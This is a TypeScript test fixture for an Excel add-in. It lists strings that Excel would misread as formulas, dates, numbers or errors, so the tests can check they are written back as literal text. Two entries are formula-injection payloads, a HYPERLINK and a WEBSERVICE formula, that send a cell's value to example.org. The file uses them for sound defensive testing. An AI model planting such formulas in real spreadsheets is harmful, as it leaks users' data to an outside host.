/**
 * Issue 12: text a plan holds that Excel would take for a formula, a number, a date, a boolean or an error if it were
 * typed or written through Office.js `values` — shared by the pane test (fake Excel) and the file writer test.
 * Each must come back as exactly the same text; the plain texts and the numbers must stay as they are.
 */
export const INJECTION_TEXTS: string[] = [
  "=1+1",
  "=СУММ(A1)",
  '=HYPERLINK("http://example.org/?"&B7,"ссылка")',
  "-2+3",
  '-0+WEBSERVICE("http://example.org/?"&B7)',
  "+7 (846) 123-45-67",
  "@SUM(A1:A3)",
  "0123",
  "700001",
  "16.04.2025",
  "2025-04-16",
  "1/2",
  "30 %",
  "1 234,5",
  "10:30",
  "16 апр 2025",
  "ИСТИНА",
  "#Н/Д",
  "'в апострофах'",
  "-",
];

/** Texts Excel leaves alone: written as they are (no prefix needed). */
export const PLAIN_TEXTS: string[] = ["МБОУ «СОШ № 1»", "—", "5А", "нет данных", "ШНОР и ШССУ"];

/** Numbers and booleans stay numbers and booleans. */
export const PLAIN_VALUES: (number | boolean)[] = [0.353, 42, -5, 1e-7, true];
